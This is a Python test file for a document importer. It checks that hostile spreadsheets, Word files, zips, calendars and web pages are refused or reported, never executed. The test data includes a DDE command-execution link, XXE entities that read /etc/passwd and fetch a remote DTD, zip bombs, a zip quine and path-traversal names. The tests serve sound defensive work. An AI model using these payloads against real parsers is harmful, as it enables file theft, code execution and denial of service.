"""Foreign files made to harm: each is a finding in plain words; nothing is run, fetched or written."""

import io
import os
import socket
import struct
import subprocess
import tracemalloc
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZIP_LZMA, ZipFile, ZipInfo

import docx
import msoffcrypto.format.ooxml
import openpyxl
import pytest
import typer
import xlsxwriter

from carbonroad.cli.console import Console
from carbonroad.cli.importing.drafting import read_file
from carbonroad.findings import Finding, Severity
from carbonroad.importing import readers
from carbonroad.importing.foreign import look as foreign
from carbonroad.importing.foreign import safe_xml as foreign_xml
from carbonroad.importing.foreign import zipped
from carbonroad.importing.foreign.look import Kind
from carbonroad.importing.options import Options
from carbonroad.importing.policy import to_draft as policy
from carbonroad.importing.readers import Foreign
from carbonroad.importing.sheets import csv_text, xlsx_cells
from carbonroad.importing.sheets import grid as sheets_grid
from carbonroad.importing.sheets import scan as sheets_scan
from carbonroad.importing.sheets import tables as sheets
from carbonroad.importing.sheets import xlsx as sheets_xlsx
from carbonroad.importing.sheets.tables import Tables
from carbonroad.importing.texts import paragraphs, pieces
from carbonroad.importing.texts.paragraphs import Text
from carbonroad.source.text import read_data

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@contextmanager
def _sealed() -> Iterator[None]:
    """No socket, no process, no file that is opened for writing, no folder that is made."""

    def refuse(*given: Any, **_: Any) -> Any:
        raise AssertionError(given)

    opened = io.open

    def reading(file: Any, mode: str = "r", *rest: Any, **more: Any) -> Any:
        return refuse(file) if set(mode) & set("wax+") else opened(file, mode, *rest, **more)

    with pytest.MonkeyPatch.context() as patch:
        for module, name in (
            (socket, "socket"),
            (socket, "getaddrinfo"),
            (subprocess, "Popen"),
            (os, "mkdir"),
        ):
            patch.setattr(module, name, refuse)
        patch.setattr("builtins.open", reading)
        patch.setattr(io, "open", reading)
        yield


def look(data: bytes, name: str) -> Kind | Finding:
    with _sealed():
        return foreign.look(data, name)


def read_tables(data: bytes, name: str, kind: Kind) -> Tables:
    with _sealed():
        return sheets.read_tables(data, name, kind)


def read_paragraphs(data: bytes, name: str, kind: Kind) -> Text:
    with _sealed():
        return paragraphs.read_paragraphs(data, name, kind)


@cache
def _workbook(rows: int = 3) -> bytes:
    file = BytesIO()
    book = xlsxwriter.Workbook(file, {"in_memory": True})
    sheet = book.add_worksheet()
    for row in range(rows):
        sheet.write_row(row, 0, [row, f"任务{row}", "到2030年"])
    book.close()
    return file.getvalue()


@cache
def _document() -> bytes:
    document = docx.Document()
    document.add_heading("示例", 1)
    document.add_paragraph("到2030年。", style="List Number")
    document.add_table(1, 2).cell(0, 1).text = "x"
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def _changed(data: bytes, parts: dict[str, bytes]) -> bytes:
    """The same file with other parts; those in front of it that are new."""
    file = BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(file, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, old.read(name)))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return file.getvalue()


def _part(data: bytes, name: str) -> bytes:
    with ZipFile(BytesIO(data)) as file:
        return file.read(name)


def _findings(data: bytes, name: str) -> list[Finding]:
    """Everything that is said of a file, whichever way it is read."""
    kind = look(data, name)
    if isinstance(kind, Finding):
        return [kind]
    if kind is Kind.xlsx:
        return list(read_tables(data, name, kind).findings)
    return list(read_paragraphs(data, name, kind).findings)


def _only(data: bytes, name: str) -> Finding:
    (finding,) = _findings(data, name)
    assert finding.severity is Severity.error
    assert finding.span.path.startswith(name)
    return finding


@pytest.mark.parametrize(("data", "name"), [(_workbook(), "a.xlsx"), (_document(), "a.docx")])
def test_a_password_is_named(data: bytes, name: str) -> None:
    locked = BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(BytesIO(data)).encrypt("secret", locked)
    finding = _only(locked.getvalue(), name)
    assert finding.name == "password-protected"
    assert "without one" in finding.help


def _links(*links: tuple[str, str, str]) -> str:
    """A part of relationships that lead out of the file."""
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    each = (
        f'<Relationship Id="{key}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for key, kind, target in links
    )
    return f'<Relationships xmlns="{space}">{"".join(each)}</Relationships>'


def test_macros_and_links_of_a_workbook_are_told_and_the_rest_is_read() -> None:
    link = _links(("a", "externalLinkPath", "file:///etc/passwd"))
    data = _changed(
        _workbook(),
        {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0",
            "xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": link.encode(),
            "xl/connections.xml": b"<connections/>",
        },
    )
    tables = read_tables(data, "a.xlsm", Kind.xlsx)
    assert tables.tables[0].rows[0][1].text == "任务0"
    (finding,) = tables.findings
    assert finding.severity is Severity.info
    assert "macros, links to other files and data connections" in finding.message


def test_a_template_a_link_and_an_inserted_page_of_a_document_are_not_fetched() -> None:
    source = _document()
    settings = _links(("a", "attachedTemplate", "http://198.51.100.1/t.dotm"))
    rels = _part(source, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        f'<Relationship Id="z1" Type="{_RELATIONS}/image" Target="http://198.51.100" TargetMode="External"/>'
        f'<Relationship Id="z2" Type="{_RELATIONS}/aFChunk" Target="afchunk.mht"/>'
        f'<Relationship Id="z3" Type="{_RELATIONS}/header" Target="NULL"/></Relationships>'.encode(),
    )
    body = _part(source, "word/document.xml").replace(
        b"<w:body>", b'<w:body><w:altChunk r:id="z2"/><w:subDoc r:id="z1"/>'
    )
    data = _changed(
        source,
        {
            "word/_rels/settings.xml.rels": settings.encode(),
            "word/_rels/document.xml.rels": rels,
            "word/document.xml": body,
            "word/afchunk.mht": b"<p>no</p>",
        },
    )
    text = read_paragraphs(data, "a.docx", Kind.docx)
    assert [one.text for one in text.paragraphs] == ["示例", "到2030年。", "x"]
    (finding,) = text.findings
    said = "a template of another file, links to other files and inserted files of other kinds"
    assert said in finding.message


def test_large_sheets_are_refused_before_they_fill_the_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets_grid, "MAX_CELLS", 1_000)
    file = BytesIO()
    book = xlsxwriter.Workbook(file, {"in_memory": True})
    book.add_worksheet("任务").write(0, 0, "到2030年")
    sheet = book.add_worksheet("数据")
    for row in range(8_000):
        sheet.write_row(row, 0, [row] * 5)
    book.close()
    data = file.getvalue()
    tracemalloc.start()
    tables = read_tables(data, "a.xlsx", Kind.xlsx)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 3_000_000
    assert [table.name for table in tables.tables] == ["任务"]
    (finding,) = tables.findings
    assert finding.name == "import-limit"
    assert finding.span.path == "a.xlsx!数据"
    assert "1,000 cells" in finding.message
    assert "new file" in finding.help


@pytest.mark.parametrize(
    "cells",
    [
        [("A1", "x"), ("BZZ900", "y")],
        [("XFD1", "x"), *((f"A{row}", "y") for row in range(2, 40))],
    ],
)
def test_a_cell_far_away_costs_nothing(cells: list[tuple[str, str]]) -> None:
    book = openpyxl.Workbook()
    for reference, text in cells:
        book.active[reference] = text
    file = BytesIO()
    book.save(file)
    tables = read_tables(file.getvalue(), "a.xlsx", Kind.xlsx)
    if tables.tables:
        assert sum(map(len, tables.tables[0].rows)) == 2 * 2054
    else:
        assert [one.name for one in tables.findings] == ["import-limit"]
        assert "XFD" in tables.findings[0].message


def test_merged_ranges_of_everything_are_cut_to_what_is_used() -> None:
    data = _workbook()
    merges = "".join(f'<mergeCell ref="A{row}:XFD1048576"/>' for row in range(1, 400))
    sheet = _part(data, "xl/worksheets/sheet1.xml").replace(
        b"</sheetData>", f"</sheetData><mergeCells>{merges}</mergeCells>".encode()
    )
    table = read_tables(_changed(data, {"xl/worksheets/sheet1.xml": sheet}), "a.xlsx", Kind.xlsx).tables[0]
    assert [len(row) for row in table.rows] == [3, 3, 3]


@pytest.mark.parametrize(
    ("module", "limit", "value", "name"),
    [
        (foreign, "MAX_BYTES", 1000, "a.xlsx"),
        (zipped, "MAX_ENTRIES", 3, "a.xlsx"),
        (zipped, "MAX_UNPACKED", 100, "a.xlsx"),
        (sheets_grid, "MAX_CELLS", 3, "a.xlsx"),
        (sheets_grid, "MAX_CHARACTERS", 3, "a.xlsx"),
        (foreign_xml, "MAX_CHARACTERS", 3, "a.docx"),
        (foreign_xml, "MAX_DEPTH", 3, "a.docx"),
        (foreign_xml, "MAX_ELEMENTS", 3, "a.docx"),
        (pieces, "MAX_PARAGRAPHS", 1, "a.docx"),
        (pieces, "MAX_CHARACTERS", 3, "a.txt"),
        (pieces, "MAX_PARAGRAPHS", 1, "a.md"),
        (sheets_grid, "MAX_CELLS", 1, "a.csv"),
    ],
)
def test_each_limit_is_named_with_a_way_out(
    module: Any, limit: str, value: int, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = {"x": _workbook(), "d": _document(), "t": b"a b\n\nc d\n", "m": b"# a\n\nb\n", "c": b"a,b\n1,2\n"}[
        name[2]
    ]
    if limit == "MAX_BYTES":
        data += bytes(2_000_000)
        value = 1_000_000
    monkeypatch.setattr(module, limit, value)
    kind = look(data, name)
    if name.endswith("csv"):
        (finding,) = read_tables(data, name, Kind.csv).findings
    else:
        (finding,) = [kind] if isinstance(kind, Finding) else _findings(data, name)
    assert finding.name == "import-limit"
    shown = 1 if limit == "MAX_BYTES" else value
    assert f"{shown:,}" in finding.message or limit == "MAX_UNPACKED"
    assert finding.help


def test_a_bomb_of_blanks_is_refused_by_what_it_declares() -> None:
    data = _changed(_workbook(), {"xl/worksheets/sheet1.xml": b"<worksheet>" + b" " * 30_000_000})
    finding = _only(data, "a.xlsx")
    assert finding.name == "import-limit"
    assert "unpacks to 30 MB" in finding.message


def test_a_size_that_is_declared_too_small_is_damage() -> None:
    data = bytearray(_changed(_workbook(), {"xl/workbook.xml": b"<workbook>" + b" " * 2_000_000}))
    name = b"xl/workbook.xml"
    for sign, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(sign)
        while at >= 0:
            length, start = (26, 30) if sign == b"PK\x03\x04" else (28, 46)
            size = struct.unpack_from("<H", data, at + length)[0]
            if bytes(data[at + start : at + start + size]) == name:
                struct.pack_into("<I", data, at + offset, 10)
            at = data.find(sign, at + 4)
    assert _only(bytes(data), "a.xlsx").name == "damaged-file"


def test_a_zip_in_a_zip_is_not_unpacked() -> None:
    """As in a quine: what stands in it is the same again, for ever."""
    inner = _workbook()
    for _ in range(3):
        inner = _changed(inner, {"xl/embeddings/again.xlsx": inner})
    tables = read_tables(inner, "a.xlsx", Kind.xlsx)
    assert len(tables.tables) == 1
    assert [one.name for one in tables.findings] == ["part-not-read"]


def _quine() -> bytes:
    """A zip whose one entry is, by its offsets, the whole file."""
    body = zlib.compress(b"PK\x03\x04" * 20)[2:-4]
    head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(body), 80, 1, 0) + b"r" + body
    entry = (
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(body), 80, 1, 0, 0, 0, 0, 0, 0)
        + b"r"
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, len(entry), len(head), 0)
    return head + entry + end


def test_a_zip_of_itself_is_an_archive_like_others() -> None:
    assert _only(_quine(), "r.zip").name == "unsupported-file"


def test_names_that_lead_elsewhere_are_names_and_nothing_more(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    data = _changed(_workbook(), {"../../evil.txt": b"x", "/etc/evil": b"x", "C:\\evil": b"x"})
    assert len(read_tables(data, "a.xlsx", Kind.xlsx).tables) == 1
    assert list(tmp_path.iterdir()) == []


def test_a_part_that_is_there_twice_is_damage() -> None:
    file = BytesIO(_workbook())
    with ZipFile(file, "a") as target:
        target.writestr(ZipInfo("XL/workbook.xml"), "<workbook/>")
    finding = _only(file.getvalue(), "a.xlsx")
    assert finding.name == "damaged-file"
    assert "twice" in finding.message


def test_a_part_packed_in_a_way_that_office_does_not_use_is_damage() -> None:
    file = BytesIO()
    with ZipFile(BytesIO(_workbook())) as old, ZipFile(file, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name), ZIP_LZMA if name == "xl/workbook.xml" else ZIP_DEFLATED)
    assert _only(file.getvalue(), "a.xlsx").name == "damaged-file"


_BOMB = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c SYSTEM "file:///etc/passwd"><!ENTITY % d SYSTEM "http://198.51.100.1/x.dtd"> %d;]>"""


@pytest.mark.parametrize(
    ("source", "part", "name"),
    [
        (_workbook(), "xl/worksheets/sheet1.xml", "a.xlsx"),
        (_workbook(), "xl/sharedStrings.xml", "a.xlsx"),
        (_workbook(), "xl/workbook.xml", "a.xlsx"),
        (_workbook(), "xl/styles.xml", "a.xlsx"),
        (_workbook(), "xl/_rels/workbook.xml.rels", "a.xlsx"),
        (_workbook(), "[Content_Types].xml", "a.xlsx"),
        (_document(), "word/document.xml", "a.docx"),
        (_document(), "word/numbering.xml", "a.docx"),
    ],
)
def test_entities_are_refused_in_every_part(source: bytes, part: str, name: str) -> None:
    text = _part(source, part).partition(b"?>")[2]
    assert _only(_changed(source, {part: _BOMB + text}), name).name == "document-type-declared"
    wide = (
        (b'<?xml version="1.0" encoding="UTF-16"?>' + _BOMB.partition(b"?>")[2] + text)
        .decode()
        .encode("utf-16")
    )
    assert _only(_changed(source, {part: wide}), name).name == "document-type-declared"


def test_properties_that_break_the_library_do_not_reach_it() -> None:
    data = _changed(
        _workbook(), {"docProps/core.xml": b"<broken", "xl/theme/theme1.xml": b"", "docProps/app.xml": b"&"}
    )
    assert read_tables(data, "a.xlsx", Kind.xlsx).tables[0].rows[0][1].text == "任务0"


_SHEET = "xl/worksheets/sheet1.xml"
_BUILT_AS_NO_OFFICE_DOES = [
    (zipped, "MAX_TAGS", 50, b"<a/>" * 60, "50 tags"),
    (foreign_xml, "MAX_DEPTH", 20, b"<a>" * 30, "20 deep"),
    (foreign_xml, "MAX_NAMES", 90, b"".join(b"<a%d/>" % number for number in range(99)), "90 names"),
    (foreign_xml, "MAX_TAG", 50_000, b'<a b="' + bytes(range(48, 58)) * 20_000 + b'"/>', "a tag of"),
    (sheets_scan, "_MAX_PIECES", 50, b"<a/>" * 60, "outside of its rows"),
]


@pytest.mark.parametrize(("module", "limit", "value", "added", "said"), _BUILT_AS_NO_OFFICE_DOES)
def test_a_sheet_that_would_fill_the_memory_of_the_library_is_refused(
    module: Any, limit: str, value: int, added: bytes, said: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What no cell holds is kept as well: by expat its names and depth, by openpyxl its elements."""
    data = _changed(
        _workbook(), {_SHEET: _part(_workbook(), _SHEET).replace(b"<sheetData>", added + b"<sheetData>")}
    )
    monkeypatch.setattr(module, limit, value)
    finding = _only(data, "a.xlsx")
    assert finding.name == "import-limit"
    assert said in finding.message


def test_lists_of_formats_are_counted_all_together(monkeypatch: pytest.MonkeyPatch) -> None:
    styles = _part(_workbook(), "xl/styles.xml").replace(
        b"<fonts", (b"<cellXfs>" + b"<xf/>" * 30 + b"</cellXfs>") * 2 + b"<fonts"
    )
    monkeypatch.setattr(foreign_xml, "MAX_LISTED", 50)
    assert _only(_changed(_workbook(), {"xl/styles.xml": styles}), "a.xlsx").name == "import-limit"


def test_two_sheets_cannot_be_the_same_part() -> None:
    """It would be unpacked once more for each of 200 sheets."""
    book = _part(_workbook(), "xl/workbook.xml").replace(
        b"</sheets>", b'<sheet name="again" sheetId="2" r:id="rId1"/></sheets>'
    )
    assert _only(_changed(_workbook(), {"xl/workbook.xml": book}), "a.xlsx").name == "damaged-file"


def test_a_text_that_many_cells_share_counts_as_often_as_it_is_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    file = BytesIO()
    book = xlsxwriter.Workbook(file, {"in_memory": True})
    sheet = book.add_worksheet()
    for row in range(30):
        sheet.write(row, 0, "x" * 1_000)
    book.close()
    monkeypatch.setattr(sheets_grid, "MAX_CHARACTERS", 20_000)
    seen: list[str] = []

    def clean(text: str) -> tuple[str, int]:
        seen.append(text)
        return text, 0

    monkeypatch.setattr(xlsx_cells, "clean", clean)
    finding = _only(file.getvalue(), "a.xlsx")
    assert "20,000 characters" in finding.message
    assert len(seen) == 20  # and no more were looked at


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_a_cell_that_no_line_of_a_roadmap_could_hold_is_named(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in (sheets_grid, csv_text, sheets_xlsx):
        monkeypatch.setattr(module, "MAX_CELL", 3)
    if name == "a.csv":
        (finding,) = read_tables("任务,时间\n到2030年,x\n".encode(), name, Kind.csv).findings
    else:
        finding = _only(_workbook(), name)
    assert finding.name == "import-limit"
    assert ("Cell A2" if name == "a.csv" else "Cell C1") in finding.message


def test_a_table_is_as_wide_as_excel_allows() -> None:
    (finding,) = read_tables(b"a," * 20_000 + b"a\n", "a.csv", Kind.csv).findings
    assert finding.name == "import-limit"


def test_lists_have_fewer_rows_than_a_roadmap_could_use(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(readers, "MAX_FILLED", 5)
    files = tuple(Foreign(b"a,b\n1,2\n3,4\n", name, Kind.csv) for name in ("a.csv", "b.csv"))
    (finding,) = readers.draft_of(files, "x").findings
    assert finding.name == "import-limit"
    assert "b.csv" in finding.message


@pytest.mark.parametrize("limit", ["MAX_CHARACTERS", "MAX_PARAGRAPH"])
def test_a_text_far_longer_than_a_policy_is_not_looked_at_sentence_by_sentence(
    limit: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(policy, limit, 20)
    draft = readers.draft_of((Foreign(b"By 2030, build 5 schools.", "a.txt", Kind.txt),), "x")
    assert [one.name for one in draft.findings] == ["import-limit"]


def test_a_sentence_of_numbers_alone_is_asked_about() -> None:
    text = (
        b"Plan of a city\n\nBy 2030, build 5 schools.\n\nBy 2030, output must reach 5%"
        + b", 6% of a, 7% of b" * 30
        + b".\n"
    )
    draft = readers.draft_of((Foreign(text, "a.txt", Kind.txt),), "x")
    assert "sentence-unclear" in [one.name for one in draft.findings]


@pytest.mark.parametrize(
    "plan", ["".join(f"<a{number}/>" for number in range(9_000)), "<Resources>" + "<Resource/>" * 200_001]
)
def test_a_plan_of_odd_names_or_endless_lists_is_refused(plan: str) -> None:
    data = f'<Project xmlns="http://schemas.microsoft.com/project">{plan}'.encode()
    (finding,) = readers.draft_of((Foreign(data, "a.xml", Kind.mspdi),), "x").findings
    assert finding.name == "import-limit"


@pytest.mark.parametrize("inner", ["BEGIN:VEVENT\n" * 60_001, "SUMMARY:a\n" + " b\n" * 20_001])
def test_a_calendar_of_endless_entries_or_lines_is_refused(inner: str) -> None:
    data = f"BEGIN:VCALENDAR\n{inner}".encode()
    (finding,) = readers.draft_of((Foreign(data, "a.ics", Kind.ics),), "x").findings
    assert finding.name == "import-limit"


def test_a_link_out_of_a_folder_of_tables_is_refused(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "secret.csv").write_text("a,b\n1,2\n")
    (tmp_path / "tables").mkdir()
    (tmp_path / "tables" / "a.csv").symlink_to(tmp_path / "secret.csv")
    with pytest.raises(typer.Exit) as ended:
        read_file(Console("never"), str(tmp_path / "tables"), Options(), table=False)
    assert ended.value.exit_code == 2
    assert "leads out of the folder" in capsys.readouterr().err


@pytest.mark.parametrize(
    "html",
    [
        "<a " * 30_000,
        '<a """>' * 20_000 + "<",
        "<!--" * 30_000,
        "<script>" * 20_000,
        "&#" + "1" * 30_000 + ";",
        "<table><tr>" * 10_000 + "<td rowspan=999 colspan=999>x" * 3_000,
        "<div>" * 30_000 + "x",
        "<ol start=99999999999999999999><li>" * 5_000,
    ],
)
def test_web_pages_made_to_take_long_do_not(html: str) -> None:
    text = read_paragraphs(html.encode(), "a.html", Kind.html)
    assert len(text.paragraphs) <= 5_000


@pytest.mark.parametrize(("data", "name"), [(_workbook(1), "a.xlsx"), (_document(), "a.docx")])
def test_a_file_cut_off_anywhere_or_damaged_anywhere_is_a_finding_or_read(data: bytes, name: str) -> None:
    for length in range(0, len(data), len(data) // 20):
        assert _findings(data[:length], name)
    for place in range(7, len(data), len(data) // 40):
        harmed = bytearray(data)
        harmed[place] ^= 0x5A
        for finding in _findings(bytes(harmed), name):
            assert finding.message


@pytest.mark.parametrize(
    ("data", "part", "name"),
    [(_workbook(1), "xl/worksheets/sheet1.xml", "a.xlsx"), (_document(), "word/document.xml", "a.docx")],
)
def test_parts_cut_off_anywhere_are_findings(data: bytes, part: str, name: str) -> None:
    text = _part(data, part)
    for length in range(0, len(text), len(text) // 15):
        assert _only(_changed(data, {part: text[:length]}), name).name == "damaged-file"


def test_any_bytes_are_some_text() -> None:
    for data in (
        b"\xff\xfe\x00",
        b"\xef\xbb\xbf",
        bytes(range(256)),
        b"\x80" * 99,
        b"a\x00b" * 9,
        b"\r\r\n\x0c",
    ):
        for kind in (Kind.csv, Kind.html, Kind.md, Kind.txt):
            read_tables(data, "x", Kind.csv)
            read_paragraphs(data, "x", kind)


def test_a_file_is_read_up_to_its_limit_and_a_pipe_is_not(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.touch()
    assert read_data(path, "a.csv", 10) == b""
    found = [read_data(tmp_path, "folder", 10), read_data(tmp_path / "no", "no", 10)]
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe")
        found.append(read_data(tmp_path / "pipe", "pipe", 10))
    assert {one.name for one in found if isinstance(one, Finding)} == {"unreadable-file"}
    assert not any(isinstance(one, bytes) for one in found)
    found = [read_data(Path(__file__), "test", 10)]
    assert [one.name for one in found if isinstance(one, Finding)] == ["too-large"]
